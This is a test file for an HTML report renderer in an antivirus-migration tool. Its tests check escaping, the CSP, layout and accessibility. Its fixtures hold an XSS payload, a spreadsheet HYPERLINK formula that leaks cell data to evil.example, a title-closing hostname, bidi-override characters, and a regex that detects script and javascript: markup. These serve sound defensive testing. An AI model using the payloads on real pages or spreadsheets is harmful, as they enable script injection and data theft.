import { describe, expect, it } from 'vitest';
import { detectionCaseIds, replayCase, reportOf } from '../../probes/replay/test-support/replayed-reports';
import type { PlanProgress } from '../plan/migration-steps';
import { HOSTILE_TEXT_SAMPLES, survivesAsInertText } from '../util/untrusted-json';
import { visibleText } from '../util/visible-text';
import { REPORT_CSP, renderReportHtml } from './render-report-html';
import { REPORT_CSS } from './report-css';
import type { Report } from './report-schema';

const atRemove: PlanProgress = {
  stepId: 'remove',
  choices: { alternativeId: 'microsoft-defender' },
  ticked: ['quarantine'],
  removed: [],
};

const kesReport = async (supportCode: string | null = 'HND-7KQ2-M9XD') =>
  reportOf(await replayCase('win-kes10-de-wsc'), atRemove, supportCode);

const ALLOWED_TAGS = new Set(
  'html head meta title style body header main section footer h1 h2 h3 h4 p span strong time table caption thead tbody tr th td ul ol li pre div br'.split(
    ' ',
  ),
);
const ALLOWED_ATTRIBUTES = new Set(
  'lang charset http-equiv content name class scope datetime id aria-labelledby'.split(' '),
);

/** Every tag in the page: since every value's "<" is escaped, each "<" here is markup we wrote. */
function tagsOf(page: string): { name: string; attributes: { name: string; value: string }[] }[] {
  return [...page.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g)].map((m) => ({
    name: (m[1] ?? '').toLowerCase(),
    attributes: [...(m[2] ?? '').matchAll(/\s([^\s=]+)(?:="([^"]*)")?/g)].map((a) => ({
      name: (a[1] ?? '').toLowerCase(),
      value: a[2] ?? '',
    })),
  }));
}

function expectInert(page: string): void {
  expect(page).not.toMatch(/<script|<img|<iframe|<a[\s>]|<link|<object|<embed|<base|<form|<svg|<math/i);
  for (const tag of tagsOf(page)) {
    expect(ALLOWED_TAGS, `tag <${tag.name}>`).toContain(tag.name);
    for (const attribute of tag.attributes) {
      expect(ALLOWED_ATTRIBUTES, `attribute ${attribute.name} on <${tag.name}>`).toContain(attribute.name);
      expect(attribute.value, `${attribute.name} on <${tag.name}>`).not.toMatch(/https?:|javascript:|\/\//i);
    }
  }
}

/** Every string in the report, replaced by `f` (enums too: the renderer must cope with anything). */
function mapStrings(value: unknown, f: (text: string, path: string) => string, path = ''): unknown {
  if (typeof value === 'string') return f(value, path);
  if (Array.isArray(value)) return value.map((v, i) => mapStrings(v, f, `${path}.${i}`));
  if (value !== null && typeof value === 'object') {
    return Object.fromEntries(
      Object.entries(value).map(([k, v]) => [k, mapStrings(v, f, path ? `${path}.${k}` : k)]),
    );
  }
  return value;
}

const HOSTILE =
  '<script>alert(1)</script><img src="https://evil.example/x.png" onerror="alert(2)"><a href="http://evil.example">x</a></style></title>=HYPERLINK("https://evil.example/?q="&A1,"Click")';
const HOSTILE_ESCAPED =
  '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=&quot;https://evil.example/x.png&quot; onerror=&quot;alert(2)&quot;&gt;&lt;a href=&quot;http://evil.example&quot;&gt;x&lt;/a&gt;&lt;/style&gt;&lt;/title&gt;=HYPERLINK(&quot;https://evil.example/?q=&quot;&amp;A1,&quot;Click&quot;)';

/** Fields whose values are enums in the schema (everything else is free text). */
const ENUM_PATH =
  /^(format|machine\.platform|region\.source|verdict\.level|verdict\.reasons\.\d+\.(code|severity)|detections\.\d+\.status|sources\.\d+\.status|migration\.(currentStep|steps\.\d+\.(id|state)|removals\.\d+\.routes\.\d+\.kind|removed\.\d+\.how|checks\.\d+\.(id|fixStep)))$/;

describe('renderReportHtml', () => {
  it('is one self-contained document: a strict CSP first, inline CSS, no script, nothing that loads', async () => {
    const page = renderReportHtml(await kesReport());
    expect(page.startsWith('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n')).toBe(true);
    expect(page).toContain(`<meta http-equiv="Content-Security-Policy" content="${REPORT_CSP}">`);
    expect(REPORT_CSP).toBe("default-src 'none'; style-src 'unsafe-inline'");
    expect(page.indexOf('Content-Security-Policy')).toBeLessThan(page.indexOf('<style>'));
    expect(page.match(/<style>/g)).toHaveLength(1);
    expectInert(page);
  });

  it('the CSS loads nothing and cannot end its <style> element', () => {
    expect(REPORT_CSS).not.toMatch(/url\(|@import|@font-face|<|https?:/i);
  });

  it('every value is escaped: a capture full of markup and formulas renders as inert text', async () => {
    const kes = await kesReport();
    const migration = kes.migration as NonNullable<Report['migration']>;
    // A skipped step too, so its one-line reason is among the values shown.
    const report: Report = {
      ...kes,
      migration: {
        ...migration,
        steps: migration.steps.map((st, i) =>
          i === 4 ? { ...st, state: 'skipped', skippedBecause: 'Windows is not waiting for a restart' } : st,
        ),
      },
    };
    // Even enum values: the renderer must stay inert whatever it is given.
    const everything = mapStrings(report, (text, path) => `${HOSTILE}[${path}]${text}`) as Report;
    expectInert(renderReportHtml(everything));
    // Free text only, so the page keeps its shape and each value can be found.
    const freeText = mapStrings(report, (text, path) =>
      ENUM_PATH.test(path) ? text : `${HOSTILE}[${path}]${text}`,
    ) as Report;
    const page = renderReportHtml(freeText);
    expectInert(page);
    // The values a capture or a sender controls, each shown, each escaped.
    for (const path of [
      'detections.0.name',
      'detections.0.vendor',
      'detections.0.version',
      'detections.0.evidence.0.record',
      'detections.0.evidence.0.decoded.0.name',
      'detections.0.evidence.0.decoded.0.value',
      'detections.0.evidence.0.sourceLabel',
      'detections.0.ban.summary',
      'verdict.headline',
      'verdict.reasons.0.text',
      'sources.0.label',
      'sources.0.reason',
      'region.explanation',
      'migration.steps.3.title',
      'migration.steps.3.what',
      'migration.steps.4.skippedBecause',
      'migration.keepData.0.how',
      'migration.chosen.name',
      'migration.checks.0.text',
      'app.version',
      'supportCode',
    ]) {
      expect(page, path).toContain(`${HOSTILE_ESCAPED}[${path}]`);
    }
  });

  it.each(HOSTILE_TEXT_SAMPLES)(
    'the shared hostile sample %j as a product name comes out as inert text',
    async (sample) => {
      const report = await kesReport();
      const [first, ...rest] = report.detections;
      if (!first) throw new Error('the case has a detection');
      const page = renderReportHtml({ ...report, detections: [{ ...first, name: sample }, ...rest] });
      expectInert(page);
      const heading = page.match(/<h4>(.*?)<\/h4>/)?.[1];
      // The report shows bidirectional controls as code points (util/visible-text.ts): compare with that.
      expect(survivesAsInertText(visibleText(sample), heading ?? '', 'html'), heading).toBe(true);
    },
  );

  it('a hostile computer name cannot close the title or the style', async () => {
    const report = await kesReport();
    const page = renderReportHtml({
      ...report,
      machine: { ...report.machine, hostname: '</title><script>x</script>' },
    });
    expectInert(page);
    expect(page).toContain(
      '<title>Antivirus report: Not protected (&lt;/title&gt;&lt;script&gt;x&lt;/script&gt;)</title>',
    );
  });

  it('characters that hide or reorder text are shown as their code points', async () => {
    const report = await kesReport();
    const [first, ...rest] = report.detections;
    if (!first) throw new Error('the case has a detection');
    const page = renderReportHtml({
      ...report,
      detections: [{ ...first, name: 'Kaspersky\u202Eexe.txt\u0007' }, ...rest],
    });
    expect(page).toContain('Kaspersky[U+202E]exe.txt[U+0007]');
    expect(page).not.toContain('\u202E');
    expect(page).not.toContain('\u0007');
  });

  it('reads top-down in plain words, then the technicians’ details, then the support code', async () => {
    const page = renderReportHtml(await kesReport());
    const order = [
      '>What this is</h2>',
      '>The answer</h2>',
      'Your antivirus stopped receiving updates 791 days ago, on 29 September 2024.',
      '>What was found</h2>',
      '>What to do next</h2>',
      '>Details for technicians</h2>',
      '>Reasoning behind the verdict</h3>',
      '>Evidence per product</h3>',
      '>Sources</h3>',
      '>Support code</h2>',
    ].map((text) => page.indexOf(text));
    expect(order.every((at) => at >= 0)).toBe(true);
    expect(order).toEqual([...order].sort((a, b) => a - b));
    expect(page).toContain('This report was made by Handover, a program that checks whether the antivirus');
    expect(page).toContain('<p class="level">Not protected</p>');
    expect(page).toContain('<p class="support-code">HND-7KQ2-M9XD</p>');
  });

  it('shows the evidence, decoded values, reasoning codes, sources and the migration', async () => {
    const page = renderReportHtml(await kesReport());
    for (const text of [
      // evidence and its decoding
      'Windows Security Center <span class="code">windows.wsc.antivirus</span>',
      '&quot;productState&quot;:266240',
      '<tr><th scope="row">productState</th><td>0x041000</td></tr>',
      '<tr><th scope="row">owner</th><td>third party</td></tr>',
      // reasoning, with the stable code
      '<td class="code">banned-product-updates-stopped</td>',
      // sources with their reasons
      'Windows version was not part of this scan',
      // migration
      'Current step: <strong>Remove</strong>: Remove Kaspersky Endpoint Security for Windows.',
      '<span class="state">Still to do:</span> Restart</li>',
      '<span class="state">Done:</span> Restore anything you need from quarantine.',
      'Moving to: <strong>Microsoft Defender Antivirus</strong> (built into the system).',
      '<span class="state">Not yet:</span> Still installed: Kaspersky Endpoint Security for Windows.',
    ]) {
      expect(page).toContain(text);
    }
  });

  it('dates are in words with the ISO value beside', async () => {
    const page = renderReportHtml(await kesReport());
    expect(page).toContain(
      '<time datetime="2026-11-29T12:00:00.000Z">29 November 2026, 12:00 UTC</time> <span class="iso">(2026-11-29T12:00:00.000Z)</span>',
    );
    expect(page).toContain(
      'Updates stopped on 29 September 2024 <span class="iso">(2024-09-29T04:00:00.000Z)</span>',
    );
  });

  it('a banned VPN: no real-time protection or virus definitions shown for it, and VPN advice', async () => {
    const report = { ...reportOf(await replayCase('win-kts21.2-services-drivers'), null), migration: null };
    const page = renderReportHtml(report);
    const vpnRow =
      /<tr>\n<th scope="row">Kaspersky VPN Secure Connection[\s\S]*?<\/tr>/.exec(page)?.[0] ?? '';
    expect(vpnRow).toContain('Does not apply (not an antivirus)');
    expect(vpnRow).not.toMatch(/up to date|out of date|Cannot tell/);
    expect(page).toContain(
      '<li>Choose another VPN service, then remove Kaspersky VPN Secure Connection.</li>',
    );
    expect(page).not.toMatch(/Kaspersky VPN Secure Connection[^<]*another antivirus/);
  });

  it('no journey: what to do comes from the verdict, as actions in order; no support code is said plainly', async () => {
    const report = { ...(await kesReport(null)), migration: null };
    const page = renderReportHtml(report);
    expect(page).toContain(
      '<ol>\n<li>Move from Kaspersky Endpoint Security for Windows to an antivirus that still receives updates: remove the old one, then install the new one; Microsoft Defender protects this computer in between.</li>\n</ol>',
    );
    expect(page).toContain('No support code was made for this report.');
    expect(page).not.toContain('Support code:');
  });

  it.each(detectionCaseIds())(
    'real case %s: headings in order, every table header scoped, inert',
    async (caseId) => {
      const page = renderReportHtml(reportOf(await replayCase(caseId)));
      expectInert(page);
      const levels = [...page.matchAll(/<h([1-6])[\s>]/g)].map((m) => Number(m[1]));
      expect(levels[0]).toBe(1);
      expect(levels.filter((l) => l === 1)).toHaveLength(1);
      levels.forEach((level, i) => {
        if (i > 0) expect(level, `heading ${i}`).toBeLessThanOrEqual((levels[i - 1] ?? 1) + 1);
      });
      const headers = page.match(/<th[\s>][^>]*>?/g) ?? [];
      expect(headers.length).toBeGreaterThan(0);
      for (const th of headers) expect(th).toMatch(/^<th scope="(row|col)">$/);
    },
  );

  it('prints on A4, keeps rows and evidence whole, starts the technicians’ part on a new page', () => {
    expect(REPORT_CSS).toMatch(/@page \{ size: A4; margin: [^}]+\}/);
    const print = REPORT_CSS.slice(REPORT_CSS.indexOf('@media print'));
    expect(print).toMatch(/\.technical \{ break-before: page; \}/);
    expect(print).toMatch(/tr, \.evidence[^{]*\{ break-inside: avoid; \}/);
    expect(print).toMatch(/thead \{ display: table-header-group; \}/);
  });

  it('text colours reach WCAG AA contrast on every background the page uses', () => {
    const luminance = (hex: string) => {
      const [r, g, b] = [1, 3, 5].map((i) => {
        const c = Number.parseInt(hex.slice(i, i + 2), 16) / 255;
        return c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
      });
      return 0.2126 * (r ?? 0) + 0.7152 * (g ?? 0) + 0.0722 * (b ?? 0);
    };
    const contrast = (a: string, b: string) => {
      const [hi, lo] = [luminance(a), luminance(b)].sort((x, y) => y - x);
      return ((hi ?? 0) + 0.05) / ((lo ?? 0) + 0.05);
    };
    const colours = (property: string) =>
      [...REPORT_CSS.matchAll(new RegExp(`(?<![\\w-])${property}: (#[0-9a-f]{6})`, 'gi'))].map(
        (m) => m[1] ?? '',
      );
    const text = colours('color');
    const backgrounds = ['#ffffff', ...colours('background')];
    expect(text.length).toBeGreaterThan(3);
    expect(backgrounds).toContain('#f4f4f4');
    for (const fg of text)
      for (const bg of backgrounds) expect(contrast(fg, bg), `${fg} on ${bg}`).toBeGreaterThanOrEqual(4.5);
    // The verdict's coloured border is a graphical cue (WCAG 1.4.11: 3:1); its level is also in words.
    for (const border of colours('border-color'))
      expect(contrast(border, '#ffffff')).toBeGreaterThanOrEqual(3);
  });
});
